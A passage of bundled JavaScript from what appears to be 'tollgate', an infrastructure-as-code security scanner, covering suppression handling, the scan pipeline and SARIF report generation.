    diagnostics.push(...inline.diagnostics);
    findings.push(...applyInline(findings, inline.suppressions, input));
    rules.push(STALE_SUPPRESSION_RULE);
  }
  if (options.config && options.config.ignores.length > 0) diagnostics.push(...applyConfigIgnores(findings, options.config, input.root, now));
  const baseline = options.baseline ? applyBaseline(findings, options.baseline) : void 0;
  return { findings, diagnostics, rules, ...baseline ? { baseline } : {} };
}
function suppress(finding, suppression) {
  (finding.suppressions ??= []).push(suppression);
}
function applyInline(findings, suppressions, input) {
  const used = /* @__PURE__ */ new Set();
  const byRule = /* @__PURE__ */ new Map();
  suppressions.forEach((suppression, index) => {
    for (const ruleId of suppression.directive.ruleIds) {
      const list = byRule.get(ruleId);
      if (list) list.push([index, suppression]);
      else byRule.set(ruleId, [[index, suppression]]);
    }
  });
  for (const finding of findings) {
    const candidates2 = byRule.get(finding.ruleId);
    if (!candidates2) continue;
    const resource = input.graph.get(finding.resource);
    for (const [index, suppression] of candidates2) {
      const covers = suppression.source === "annotation" ? suppression.resource === finding.resource : commentCovers(suppression.location.file, suppression.targetLine, finding.location.file, finding.location.start, resource);
      if (!covers) continue;
      used.add(`${index}${finding.ruleId}`);
      suppress(finding, {
        kind: "inSource",
        source: suppression.source,
        justification: suppression.directive.reason,
        ...suppression.directive.until ? { until: suppression.directive.until } : {},
        location: suppression.location
      });
    }
  }
  const enabled = new Map(input.rules.map((rule) => [rule.id, rule]));
  const kinds = new Map(input.files.map((file) => [file.path, file.kind]));
  const stale = [];
  for (const [index, suppression] of suppressions.entries()) {
    for (const ruleId of suppression.directive.ruleIds) {
      const rule = enabled.get(ruleId);
      if (!rule || used.has(`${index}${ruleId}`)) continue;
      const resource = suppression.resource ? input.graph.get(suppression.resource) : enclosingResource(input.graph, suppression);
      const platform = resource?.platform ?? platformOfKind(kinds.get(suppression.location.file));
      const resourceId = resource?.id ?? `${platform}:${suppression.location.file}`;
      const where = suppression.source === "annotation" ? "tollgate.dev/ignore annotation" : "tollgate:ignore comment";
      stale.push({
        ruleId: STALE_SUPPRESSION_RULE_ID,
        severity: STALE_SUPPRESSION_RULE.severity,
        category: rule.category,
        platform,
        message: `${where} for ${ruleId} suppresses nothing here; remove it, or it will hide a future ${ruleId} finding without review`,
        resource: resourceId,
        resourceName: resource?.name ?? suppression.location.file,
        resourceType: resource?.type ?? "file",
        location: suppression.location,
        attribute: "",
        related: [],
        fingerprint: fingerprintFinding({ ruleId: STALE_SUPPRESSION_RULE_ID, resource: resourceId, attribute: ruleId, lineText: suppression.lineText })
      });
    }
  }
  return stale;
}
function enclosingResource(graph, suppression) {
  const line = suppression.targetLine ?? suppression.location.start.line;
  let best;
  for (const resource of graph.resources()) {
    const { file, range: range2 } = resource.source;
    if (file !== suppression.location.file || line < range2.start.line || line > range2.end.line) continue;
    if (!best || range2.end.line - range2.start.line < best.source.range.end.line - best.source.range.start.line) best = resource;
  }
  return best;
}
function platformOfKind(kind) {
  if (kind === "kubernetes") return "kubernetes";
  if (kind === "workflow" || kind === "action-metadata") return "github-actions";
  return "terraform";
}
function applyConfigIgnores(findings, config, root, now) {
  const diagnostics = [];
  const active = [];
  for (const entry of config.ignores) {
    if (isExpired(entry.until, now)) {
      diagnostics.push({
        level: "warning",
        code: "suppression-expired",
        message: `configuration ignore entry expired on ${entry.until}; its findings are reported again`,
        file: entry.location.file,
        range: entry.location
      });
      continue;
    }
    active.push({ entry, matcher: (0, import_ignore3.default)().add(entry.paths) });
  }
  if (active.length === 0) return diagnostics;
  for (const finding of findings) {
    if (finding.location.file === "-") continue;
    const relative = path13.relative(config.directory, path13.resolve(root, finding.location.file)).split(path13.sep).join("/");
    if (relative === "" || relative.startsWith("../") || relative === ".." || path13.isAbsolute(relative)) continue;
    for (const { entry, matcher } of active) {
      if (entry.rules && !entry.rules.includes(finding.ruleId)) continue;
      if (!matcher.ignores(relative)) continue;
      suppress(finding, {
        kind: "external",
        source: "config",
        justification: entry.reason,
        ...entry.until ? { until: entry.until } : {},
        location: entry.location
      });
    }
  }
  return diagnostics;
}
function applyBaseline(findings, baseline) {
  const byFingerprint = new Map(baseline.entries.map((entry) => [entry.fingerprint, entry]));
  const matched = /* @__PURE__ */ new Set();
  let hidden = 0;
  for (const finding of findings) {
    const entry = byFingerprint.get(finding.fingerprint);
    if (!entry) continue;
    matched.add(entry.fingerprint);
    hidden++;
    suppress(finding, { kind: "external", source: "baseline", justification: `accepted in the baseline ${path13.basename(baseline.file)}` });
  }
  return {
    file: baseline.file,
    entries: baseline.entries.length,
    matched: hidden,
    unmatched: baseline.entries.filter((entry) => !matched.has(entry.fingerprint))
  };
}

// packages/engine/src/graph/terraform/prepare.ts
async function prepareTerraform(documents, options) {
  const prepared = await prepareTerraformInputs(options);
  if (documents.length === 0) return { ...prepared, texts: /* @__PURE__ */ new Map() };
  const installed = await loadInstalledModules(documents, prepared.inputs, directoryLister(options.texts, options.root));
  return { inputs: prepared.inputs, diagnostics: [...prepared.diagnostics, ...installed.diagnostics], texts: installed.texts };
}

// packages/engine/src/scan.ts
function guardFor(limits, loadThreads2) {
  const resolved = resolveLimits(limits);
  return { limits: resolved, deadline: new Deadline(resolved.timeoutSeconds), loadThreads: loadThreads2 };
}
async function scan(options) {
  const started = performance2.now();
  const guard = guardFor(options.limits, options.loadThreads);
  const discovered = await discover({
    paths: options.paths,
    cwd: options.cwd ?? process.cwd(),
    root: options.root,
    stdin: options.stdin,
    exclude: options.exclude,
    maxFileBytes: guard.limits.maxFileBytes,
    deadline: guard.deadline
  });
  const configured = await configureRules(options.rules, options.config);
  const files = filterConfiguredFiles(discovered.files, discovered.root, options.config);
  const ruleOptions = { ...configured.ruleOptions, ...options.ruleOptions };
  const suppressions = {
    ...options.suppressions,
    ...options.config ? { config: { directory: options.config.directory, ignores: options.config.ignores } } : {}
  };
  const discoverTime = performance2.now() - started;
  const terraform = { variables: options.variables, environment: options.environment, cwd: options.cwd ?? process.cwd(), disk: true };
  const outcome = await analyse(files, discovered.root, configured.rules, ruleOptions, [...discovered.diagnostics, ...configured.diagnostics], suppressions, terraform, options.onProgress, guard);
  outcome.timings.discover = discoverTime;
  return outcome;
}
async function scanSources(sources, options) {
  const guard = guardFor(options.limits);
  const files = [];
  const diagnostics = [];
  for (const source of sources) {
    if (source.text.length > guard.limits.maxFileBytes) {
      diagnostics.push({ level: "error", code: "file-too-large", message: `more than the limit of ${guard.limits.maxFileBytes} bytes; not scanned`, file: source.path });
      continue;
    }
    const kind = classify(source.path, source.text);
    if (kind) files.push({ path: source.path, text: source.text, kind });
    else diagnostics.push({ level: "warning", code: "unrecognised-file", message: "not a Terraform, Kubernetes or GitHub Actions file; skipped", file: source.path });
  }
  const terraform = { variables: options.variables, environment: options.environment, cwd: options.root ?? process.cwd() };
  const root = options.root ?? process.cwd();
  const configured = await configureRules(options.rules, options.config);
  const suppressions = {
    ...options.suppressions,
    ...options.config ? { config: { directory: options.config.directory, ignores: options.config.ignores } } : {}
  };
  const ruleOptions = { ...configured.ruleOptions, ...options.ruleOptions };
  return analyse(filterConfiguredFiles(files, root, options.config), root, configured.rules, ruleOptions, [...diagnostics, ...configured.diagnostics], suppressions, terraform, void 0, guard);
}
async function analyse(files, root, rules, ruleOptions, diagnostics, suppressionOptions = {}, terraformOptions = {}, onProgress, guard = guardFor(void 0)) {
  const { limits, deadline, loadThreads: loadThreads2 } = guard;
  const timings = { discover: 0, load: 0, graph: 0, evaluate: 0 };
  const texts = new Map(files.map((file) => [file.path, file.text]));
  const sourceText = (file) => texts.get(file) ?? "";
  let mark = performance2.now();
  const loaded = await loadSources(files, onProgress ? (filesLoaded) => onProgress({ stage: "load", filesLoaded, files: files.length }) : void 0, { limits, deadline, threads: loadThreads2 });
  const terraform = await prepareTerraform(deadline.expired ? [] : loaded.hcl, {
    variables: terraformOptions.variables,
    environment: terraformOptions.environment,
    cwd: terraformOptions.cwd ?? root,
    root: terraformOptions.disk ? root : void 0,
    texts
  });
  for (const [file, text] of terraform.texts) texts.set(file, text);
  loaded.diagnostics.push(...terraform.diagnostics);
  timings.load = performance2.now() - mark;
  onProgress?.({ stage: "graph", filesLoaded: files.length, files: files.length });
  mark = performance2.now();
  const budget = { maxSteps: limits.maxEvaluationSteps, maxExpansion: limits.maxExpansion };
  const graph = buildGraph(loaded, sourceText, { ...terraform.inputs, budget }, deadline);
  timings.graph = performance2.now() - mark;
  onProgress?.({ stage: "evaluate", filesLoaded: files.length, files: files.length });
  mark = performance2.now();
  const runnable = await loadRulesFor(rules, new Set(graph.types()));
  const evaluated = evaluate(graph, runnable.rules, { sourceText, ruleOptions, deadline });
  const suppressed = applySuppressions({ findings: evaluated.findings, files, graph, rules: rules.map((rule) => rule.meta), root }, suppressionOptions);
  timings.evaluate = performance2.now() - mark;
  const resourcesPerFile = /* @__PURE__ */ new Map();
  for (const resource of graph.resources()) resourcesPerFile.set(resource.source.file, (resourcesPerFile.get(resource.source.file) ?? 0) + 1);
  return {
    tool: { name: "tollgate", version: TOLLGATE_VERSION, informationUri: TOLLGATE_URI },
    root,
    files: files.map((file) => ({ path: file.path, kind: file.kind, resources: resourcesPerFile.get(file.path) ?? 0 })),
    resourceCount: graph.size,
    findings: suppressed.findings,
    diagnostics: [...diagnostics, ...loaded.diagnostics, ...graph.diagnostics, ...runnable.diagnostics, ...evaluated.diagnostics, ...suppressed.diagnostics],
    rules: [...rules.map((rule) => rule.meta), ...suppressed.rules],
    ...suppressed.baseline ? { baseline: suppressed.baseline } : {},
    timings,
    graph,
    stats: { ...graph.work, filesLoaded: files.length, documentsLoaded: loaded.hcl.length + loaded.trees.length }
  };
}

// packages/engine/src/report/paths.ts
import path14 from "node:path";
function relativeFile(file, root) {
  let relative = file;
  if (path14.isAbsolute(file) && root) {
    const fromRoot = path14.relative(root, file);
    relative = fromRoot.startsWith("..") || path14.isAbsolute(fromRoot) ? path14.basename(file) : fromRoot;
  }
  return relative.replace(/\\/g, "/").replace(/^(\.\/)+/, "");
}
function withoutRoot(text, root) {
  let result = text;
  for (const { form, pattern } of rootForms(root)) {
    if (!result.includes(form)) continue;
    result = result.replace(pattern, (match) => match.length > form.length ? "" : ".");
  }
  return result;
}
var lastRoot;
function rootForms(root) {
  if (lastRoot?.root === root) return lastRoot.forms;
  const trimmed = root.replace(/[\\/]+$/, "");
  const forms = trimmed.length < 2 || !path14.isAbsolute(root) ? [] : [.../* @__PURE__ */ new Set([trimmed, trimmed.replace(/\\/g, "/")])].map((form) => ({ form, pattern: new RegExp(`${escapeRegExp(form)}(?:[\\\\/]|(?![\\w-]|\\.\\w))`, "g") }));
  lastRoot = { root, forms };
  return forms;
}
function escapeRegExp(text) {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

// packages/engine/src/report/sarif.ts
import { pathToFileURL } from "node:url";
var RULE_DOCS_BASE_URL = "https://github.com/tollgate-dev/tollgate/blob/main/docs/rules/";
var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
var DEFAULT_SARIF_CATEGORY = "tollgate";
var SOURCE_ROOT = "%SRCROOT%";
var MAX_DESCRIPTION_LENGTH = 1024;
var MAX_NAME_LENGTH = 255;
var MAX_TAGS = 20;
function ruleHelpUri(ruleId) {
  return `${RULE_DOCS_BASE_URL}${encodeURIComponent(ruleId)}.md`;
}
function toSarif(result, options = {}) {
  const rules = uniqueRulesById(result.rules);
  const ruleIndex = new Map(rules.map((rule, index) => [rule.id, index]));
  const files = [...result.files].sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
  const uris = /* @__PURE__ */ new Map();
  const uriOf = (file) => {
    let uri = uris.get(file);
    if (uri === void 0) uris.set(file, uri = fileUri(relativeFile(file, result.root)));
    return uri;
  };
  const artifactUris = files.map((file) => uriOf(file.path));
  const artifactIndex = new Map(artifactUris.map((uri, index) => [uri, index]));
  const locate = (file, range2) => physicalLocation(uriOf(file), artifactIndex, range2);
  return {
    $schema: SARIF_SCHEMA_URI,
    version: "2.1.0",
    runs: [
      {
        tool: {
          driver: {
            name: result.tool.name,
            version: result.tool.version,
            ...isSemanticVersion(result.tool.version) ? { semanticVersion: result.tool.version } : {},
            informationUri: result.tool.informationUri,
            rules: rules.map(reportingDescriptor)
          }
        },
        automationDetails: { id: automationId(options.category) },
        originalUriBaseIds: {
          [SOURCE_ROOT]: {
            uri: rootUri(result.root),
            description: { text: "The root of the scanned tree." }
          }
        },
        artifacts: files.map(
          (file, index) => ({
            location: { uri: artifactUris[index], uriBaseId: SOURCE_ROOT },
            roles: ["analysisTarget"],
            properties: { kind: file.kind, resources: file.resources }
          })
        ),
        invocations: [
          {
            executionSuccessful: !hasInputErrors(result),
            toolExecutionNotifications: sortDiagnostics(result.diagnostics).map(
              (diagnostic) => notification(diagnostic, result.root, locate)
            )
          }
        ],
        results: sarifResults(result, ruleIndex, locate),
        // Columns count UTF-16 code units, as JavaScript strings (and editors) do.
        columnKind: "utf16CodeUnits"
      }
    ]
  };
}
function formatSarif(result, options = {}) {
  return `${JSON.stringify(toSarif(result, options), null, 2)}
`;
}
function sarifResults(result, ruleIndex, locate) {
  const occurrences = /* @__PURE__ */ new Map();
  return sortFindings(result.findings).map((finding) => {
    const primary = locate(finding.location.file, finding.location);
    const occurrenceKey = `${primary.artifactLocation?.uri}\0${finding.fingerprint}`;
    const occurrence = (occurrences.get(occurrenceKey) ?? 0) + 1;
    occurrences.set(occurrenceKey, occurrence);
    const index = ruleIndex.get(finding.ruleId);
    const sarifResult = { ruleId: finding.ruleId };
    if (index !== void 0) sarifResult.ruleIndex = index;
    sarifResult.level = sarifLevel(finding.severity);
    sarifResult.message = { text: resultMessage(finding, result.root) };
    sarifResult.locations = [
      {
        physicalLocation: primary,
        logicalLocations: [{ name: finding.resourceName, fullyQualifiedName: finding.resource, kind: "resource" }]
      }
    ];
    sarifResult.partialFingerprints = { primaryLocationLineHash: `${finding.fingerprint}:${occurrence}` };
    const properties = { resource: finding.resource, resourceType: finding.resourceType };
    if (finding.attribute) properties.attribute = finding.attribute;
    properties.platform = finding.platform;
    properties.category = finding.category;
    properties.severity = finding.severity;
    sarifResult.properties = properties;
    if (finding.suppressions?.length) {
      sarifResult.suppressions = finding.suppressions.map((suppression) => ({
        kind: suppression.kind,
        status: "accepted",
        justification: withoutRoot(suppression.justification, result.root),
        // Comments and annotations sit in scanned files; a configuration or baseline may lie outside the root.
        ...suppression.kind === "inSource" && suppression.location ? { location: { physicalLocation: locate(suppression.location.file, suppression.location) } } : {},
        properties: { source: suppression.source, ...suppression.until ? { until: suppression.until } : {} }
      }));
    }
    if (finding.related.length > 0) {
      sarifResult.relatedLocations = finding.related.map((related, position) => ({
        id: position + 1,
        physicalLocation: locate(related.location.file, related.location),
        message: { text: withoutRoot(related.message, result.root) }
      }));
    }
    return sarifResult;
  });
}
function resultMessage(finding, root) {
  const message = withoutRoot(finding.message, root);
  if (finding.related.length === 0) return message;
  const links = finding.related.map(
    (related, position) => `[${escapeMessageText(withoutRoot(related.message, root))}](${position + 1})`
  );
  return `${escapeMessageText(message)} Related: ${links.join(", ")}.`;
}
function escapeMessageText(text) {
  return text.replace(/[\\[\]]/g, "\\$&");
}
function reportingDescriptor(rule) {
  const description = rule.description.trim() || rule.title;
  return {
    id: rule.id,
    name: truncate(pascalCase(rule.id), MAX_NAME_LENGTH),
    shortDescription: { text: truncate(rule.title, MAX_DESCRIPTION_LENGTH) },
    fullDescription: { text: truncate(description, MAX_DESCRIPTION_LENGTH) },
    defaultConfiguration: { level: sarifLevel(rule.severity) },
    helpUri: ruleHelpUri(rule.id),
    help: { text: helpText(rule, description), markdown: helpMarkdown(rule, description) },
    properties: {
      tags: ruleTags(rule),
      precision: rule.precision,
      "security-severity": securitySeverity(rule.severity),
      "problem.severity": problemSeverity(rule.severity)
    }
  };
}
function pascalCase(id) {
  return id.split(/[^A-Za-z0-9]+/).filter(Boolean).map((word) => word[0].toUpperCase() + word.slice(1)).join("");
}
function cweTag(cwe) {
  const number = /(\d+)/.exec(cwe)?.[1];
  return number === void 0 ? void 0 : `external/cwe/cwe-${Number(number)}`;
}
function ruleTags(rule) {
  const cweTags = (rule.cwe ?? []).map(cweTag).filter((tag) => tag !== void 0);
  const tags = ["security", rule.category, ...cweTags, ...rule.platforms, ...rule.tags ?? []];
  return [...new Set(tags)].slice(0, MAX_TAGS);
}
function helpText(rule, description) {
  const sections = [description, `Remediation: ${rule.remediation}`];
  if (rule.references?.length) sections.push(["References:", ...rule.references.map((ref) => `- ${ref}`)].join("\n"));
  if (rule.cwe?.length) sections.push(`CWE: ${rule.cwe.join(", ")}`);
  const frameworks = frameworkEntries(rule);
  if (frameworks.length > 0) {
    sections.push(["Compliance:", ...frameworks.map(([name, controls]) => `- ${name}: ${controls.join(", ")}`)].join("\n"));
  }
  sections.push(`Documentation: ${ruleHelpUri(rule.id)}`);
  return sections.join("\n\n");
}
function helpMarkdown(rule, description) {
  const sections = [`## ${rule.title}`, description, `### Remediation

${rule.remediation}`];
  if (rule.references?.length) {
    sections.push(`### References

${rule.references.map((ref) => `- <${ref}>`).join("\n")}`);
  }
  if (rule.cwe?.length) {
    sections.push(`### Weaknesses

${rule.cwe.map(cweMarkdownLink).join("\n")}`);
  }
  const frameworks = frameworkEntries(rule);
  if (frameworks.length > 0) {
    const rows = frameworks.map(([name, controls]) => `| ${tableCell(name)} | ${tableCell(controls.join(", "))} |`);
    sections.push(["### Compliance", "", "| Framework | Controls |", "| --- | --- |", ...rows].join("\n"));
  }
  sections.push(`[Rule documentation](${ruleHelpUri(rule.id)})`);
  return sections.join("\n\n");
}
function tableCell(text) {
  return text.replace(/\|/g, "\\|");
}
function cweMarkdownLink(cwe) {
  const number = /(\d+)/.exec(cwe)?.[1];
  return number === void 0 ? `- ${cwe}` : `- [${cwe}](https://cwe.mitre.org/data/definitions/${Number(number)}.html)`;
}
function frameworkEntries(rule) {
  return Object.entries(rule.frameworks ?? {}).filter(([, controls]) => controls.length > 0).sort(([a], [b]) => a < b ? -1 : a > b ? 1 : 0);
}
function notification(diagnostic, root, locate) {
  const file = diagnosticFile(diagnostic);
  return {
    level: diagnostic.level,
    message: { text: withoutRoot(diagnostic.message, root) },
    descriptor: { id: diagnostic.code },
    ...file === void 0 ? {} : { locations: [{ physicalLocation: locate(file, diagnostic.range) }] }
  };
}
function physicalLocation(uri, artifactIndex, range2) {
  const index = artifactIndex.get(uri);
  const region = range2 ? toRegion(range2) : void 0;
  const artifactLocation = { uri, uriBaseId: SOURCE_ROOT };
  if (index !== void 0) artifactLocation.index = index;
  return region ? { artifactLocation, region } : { artifactLocation };
}
function toRegion(range2) {
  const { start, end } = range2;
  if (!(start.line >= 1)) return void 0;
  const region = { startLine: start.line };
  if (start.column >= 1) region.startColumn = start.column;
  if (end.line >= start.line) {
    region.endLine = end.line;
    if (end.column >= 1 && (end.line > start.line || end.column >= (region.startColumn ?? 1))) {
      region.endColumn = end.column;
    }
  }
  return region;
}
function fileUri(relativePath) {
  if (/^[\w.!~*'()/-]*$/.test(relativePath)) return relativePath;
  return relativePath.split("/").map(encodeURIComponent).join("/");
}
function rootUri(root) {
  const href = pathToFileURL(root).href;
  return href.endsWith("/") ? href : `${href}/`;
}
function automationId(category) {
  const trimmed = category?.trim().replace(/^\/+|\/+$/g, "");
  if (!trimmed) return `${DEFAULT_SARIF_CATEGORY}/`;
  const prefixed = trimmed === DEFAULT_SARIF_CATEGORY || trimmed.startsWith(`${DEFAULT_SARIF_CATEGORY}/`) ? trimmed : `${DEFAULT_SARIF_CATEGORY}/${trimmed}`;
  return `${prefixed}/`;
}
function uniqueRulesById(rules) {
  const byId = /* @__PURE__ */ new Map();
  for (const rule of rules) if (!byId.has(rule.id)) byId.set(rule.id, rule);
  return [...byId.values()].sort((a, b) => a.id < b.id ? -1 : a.id > b.id ? 1 : 0);
}
function truncate(text, limit) {
  return text.length <= limit ? text : `${text.slice(0, limit - 1)}…`;
}
function isSemanticVersion(version) {
  return /^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/.test(version);
}

export {
  CommanderError,
  InvalidArgumentError,
  Option,
  Command,
  TOLLGATE_VERSION,
  TOLLGATE_URI,
  ExitCode,
  hasInputErrors,
  require_ignore,
  isCandidate,
  classify,
  DEFAULT_LIMITS,
  resolveLimits,
  discover,
  evaluate,
  isClusterScoped,
  namespaceOf,
  metadataName,
  readPlan,
  terraformAddress,
  buildGraph,
  loadSources,
  scan,
  scanSources,
  ruleCatalog,
  describeDiagnostic,
  writeOutputAtomically,
  relativeFile,
  withoutRoot,
  compareSeverity,
  atOrAbove,
  sarifLevel,
  securitySeverity,
  problemSeverity,
  countBySeverity,
  SARIF_SCHEMA_URI,
  ruleHelpUri,
  formatSarif,
  pascalCase
};
